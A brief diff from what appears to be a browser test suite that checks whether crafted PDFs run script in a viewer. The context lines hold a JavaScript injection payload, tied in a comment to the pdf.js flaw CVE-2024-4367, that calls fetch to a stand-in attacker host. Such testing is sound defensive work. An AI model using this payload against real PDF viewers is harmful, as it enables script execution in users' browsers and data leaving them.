@@ -15,6 +15,8 @@ from tests.browser import documents
 from tests.browser.conftest import Person
 from tests.stack import Integrator
 
+AREA = "PDFs that would run in the viewer"
+
 # Closes what would be compiled around it, and leaves a mark wherever it runs.
 _CODE = "globalThis.taken = true; fetch('https://attacker.invalid/'); //"
 # CVE-2024-4367: c.transform(1,0,0,1,0,HERE). pdf.js 4.1.392 runs it, in this very document.
